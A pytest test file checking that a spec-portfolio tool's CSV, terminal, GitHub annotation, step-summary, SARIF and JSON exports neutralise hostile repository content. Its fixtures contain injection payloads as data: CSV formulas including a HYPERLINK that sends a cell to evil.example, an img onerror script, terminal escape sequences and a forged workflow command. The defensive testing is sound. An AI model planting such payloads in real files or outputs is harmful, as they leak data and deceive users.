"""Hostile names, titles and cells in every export: risks.csv, check's text, GitHub and SARIF output, the
step summary and portfolio.json. Nothing from the repository runs as a formula, drives the terminal, forges
a workflow command, renders as an image or HTML, or breaks a URI."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from urllib.parse import unquote

import pytest
from conftest import write_tree
from spec_portfolio.export.github import annotations
from test_formats import SARIF_SCHEMA

FEATURE = "specs/001-x;=1+2"  # a folder name that is a formula after a semicolon
ODD = "specs/002-a#b?c d%25"  # a folder name that is no URI as it is
NEWLINE = "specs/003-new\nline::a,b%"  # a folder name that would end a workflow command
FILES = {
    f"{FEATURE}/spec.md": (
        "# Feature Specification: \x1b[2J\x1b]0;pwned\x07Kites\r\n\n"
        "**Status**: Draft <img src=x onerror=alert(1)> ![s](https://evil.example/s.png)\n\n"
        "See [gone](gone.md). [NEEDS CLARIFICATION: which \x1b[31mred\x1b[0m \x9b2Jdatabase?]\n"
    ),
    f"{FEATURE}/plan.md": """# Implementation Plan: Kites

## Risks

| Risk | Likelihood | Impact | Mitigation | Owner |
|------|------------|--------|------------|-------|
| x;=1+2 | High | High | =HYPERLINK("https://evil.example/?"&A1) | ops, -2+3 |
| Tabs\\|@SUM(1) | Low | Low | +1 supplier | @team |
| Line break<br>=1+2 | Low | Low | fine | Ops |
""",
    f"{ODD}/spec.md": "# Feature Specification: Odd name\n\nSee [gone](gone.md).\n",
    f"{NEWLINE}/spec.md": "# Feature Specification: New line\n\nSee [gone](gone.md).\n",
}
FORMULA = ("=", "+", "-", "@")
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # all but the line feed


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    root = tmp_path_factory.mktemp("exports")
    write_tree(root, FILES)
    return root


def run(project, *args, env=None):
    command = [sys.executable, "-m", "spec_portfolio", "check", *args]
    return subprocess.run(command, cwd=project, capture_output=True, text=True, timeout=120, env=env)


def _formula_parts(cell: str) -> list[str]:
    """The parts of a cell that a reader splitting on any common separator sees, that start a formula."""
    return [part for part in re.split(r"[,;|\t\r\n]", cell) if part.lstrip().startswith(FORMULA)]


def test_risks_csv_guards_every_part_that_could_start_a_formula(make_site):
    site = make_site(FILES)
    raw = (site.dir / "risks.csv").read_text(encoding="utf-8").removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(raw)))
    by_owner = {row["owner"]: row for row in rows}
    first = by_owner["ops,' -2+3"]
    assert (first["risk"], first["mitigation"]) == ("x;'=1+2", '\'=HYPERLINK("https://evil.example/?"&A1)')
    assert (first["feature"], first["path"]) == ("specs/001-x;'=1+2", "specs/001-x;'=1+2/plan.md")
    second = by_owner["'@team"]
    assert (second["risk"], second["mitigation"]) == ("Tabs|'@SUM(1)", "'+1 supplier")
    for row in rows:
        for cell in row.values():
            assert _formula_parts(cell) == [], cell
    # Every cell quoted, so that a reader splitting on our comma keeps `x;=1+2` one cell...
    assert raw.splitlines()[0] == '"' + '","'.join(rows[0]) + '"'
    assert all(line.startswith('"') and line.endswith('"') for line in raw.splitlines())
    # ...and a reader splitting on a semicolon, tab or bar still finds no cell that starts a formula.
    for delimiter in ";\t|":
        for row in csv.reader(io.StringIO(raw), delimiter=delimiter):
            assert not [c for c in row if c.strip(' "').startswith(FORMULA)], (delimiter, row)


def test_text_format_drops_escape_sequences_and_control_characters(project):
    result = run(project)
    assert result.returncode == 1
    assert CONTROL.findall(result.stdout) == []
    lines = result.stdout.splitlines()
    assert lines[0] == (
        "001-x;=1+2 Kites: Draft <img src=x onerror=alert(1)> ![s](https://evil.example/s.png), planned, "
        "2 unfilled, 1 to clarify"
    )
    assert lines[2] == "003-new line::a,b% New line: no status, specified"
    assert "specs/001-x;=1+2/spec.md:5:23: error [clarification] unresolved NEEDS CLARIFICATION: " in (
        result.stdout
    )
    assert "which red 2Jdatabase?]" in result.stdout
    assert "specs/003-new line::a,b%/spec.md:3: warning [input] links to 'gone.md'" in result.stdout


def test_github_annotations_escape_names_and_drop_escape_sequences(project):
    lines = run(project, "--format", "github").stdout.splitlines()
    assert CONTROL.findall("\n".join(lines)) == []
    assert all(line.startswith(("::error ", "::warning ", "::notice ")) for line in lines)
    assert (
        "::warning file=specs/002-a#b?c d%2525/spec.md,line=3,title=spec-portfolio input::"
        "links to 'gone.md', which does not exist"
    ) in lines
    assert (
        "::warning file=specs/003-new%0Aline%3A%3Aa%2Cb%25/spec.md,line=3,title=spec-portfolio input::"
        "links to 'gone.md', which does not exist"
    ) in lines
    clarification = next(line for line in lines if "NEEDS CLARIFICATION" in line)
    assert clarification.endswith("::unresolved NEEDS CLARIFICATION: which red 2Jdatabase?]")


def test_github_workflow_command_escaping():
    finding = {
        "path": "specs/a\nb%c::d,e/spec.md",
        "line": 3,
        "kind": "input",
        "severity": "warning",
        "message": "one\r\ntwo %0A ::error::forged \x1b]0;pwned\x07\x1b[2J%",
    }
    assert annotations([finding]) == [
        "::warning file=specs/a%0Ab%25c%3A%3Ad%2Ce/spec.md,line=3,title=spec-portfolio input::"
        "one%0Atwo %250A ::error::forged %25"
    ]


def test_step_summary_renders_no_image_or_html(project, tmp_path):
    summary = tmp_path / "summary.md"
    run(project, "--format", "github", env={**os.environ, "GITHUB_STEP_SUMMARY": str(summary)})
    text = summary.read_text(encoding="utf-8")
    assert CONTROL.findall(text) == []
    rows = [line for line in text.splitlines() if line.startswith("| 00")]
    assert rows[0] == (
        "| 001-x;&#61;1&#43;2 | Kites | Draft &lt;img src&#61;x onerror&#61;alert&#40;1&#41;&gt; "
        "&#33;&#91;s&#93;&#40;https://evil.example/s.png&#41; | 2 | 1 | 0/0 |  |"
    )
    assert rows[1] == "| 002-a&#35;b?c d%25 | Odd name |  | 0 | 0 | 0/0 |  |"
    assert rows[2] == "| 003-new line::a,b% | New line |  | 0 | 0 | 0/0 |  |"
    for live in ("![", "](", "<img", "<"):
        assert live not in "\n".join(rows), live


RFC3986_PATH = re.compile(r"(?:[A-Za-z0-9\-._~!$&'()*+,;=@/]|%[0-9A-F]{2})*")  # a relative path, no `:`


def test_sarif_uri_is_percent_encoded_and_valid(project):
    log = json.loads(run(project, "--format", "sarif", "--fail-on", "never").stdout)
    uris = [
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in log["runs"][0]["results"]
    ]
    assert "specs/002-a%23b%3Fc%20d%2525/spec.md" in uris
    assert "specs/003-new%0Aline%3A%3Aa%2Cb%25/spec.md" in uris
    assert {unquote(uri) for uri in uris} == {f"{FEATURE}/spec.md", f"{ODD}/spec.md", f"{NEWLINE}/spec.md"}
    for uri in uris:
        assert RFC3986_PATH.fullmatch(uri), uri


@pytest.mark.skipif(not SARIF_SCHEMA.is_file(), reason="../shared/schemas is not present")
def test_sarif_with_hostile_names_validates_against_the_schema(project):
    import jsonschema

    log = json.loads(run(project, "--format", "sarif", "--fail-on", "never").stdout)
    schema = json.loads(SARIF_SCHEMA.read_text())
    validator = jsonschema.validators.validator_for(schema)(schema)
    assert [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(log)] == []


def test_portfolio_json_keeps_hostile_text_as_data(make_site):
    """portfolio.json is JSON (served as application/json, never placed in a page), and
    `report.to_json` escapes every control character (json.dumps leaves DEL and C1 raw); the text comes back
    exactly as written."""
    site = make_site(FILES)
    raw = (site.dir / "portfolio.json").read_text(encoding="utf-8")
    assert CONTROL.findall(raw.replace("\n", "")) == []
    data = json.loads(raw)
    titles = {f["path"]: f["title"] for f in data["features"]}
    assert titles[FEATURE] == "\x1b[2J\x1b]0;pwned\x07Kites"
    assert {r["risk"] for r in data["risks"]} >= {"x;=1+2", "Tabs|@SUM(1)"}
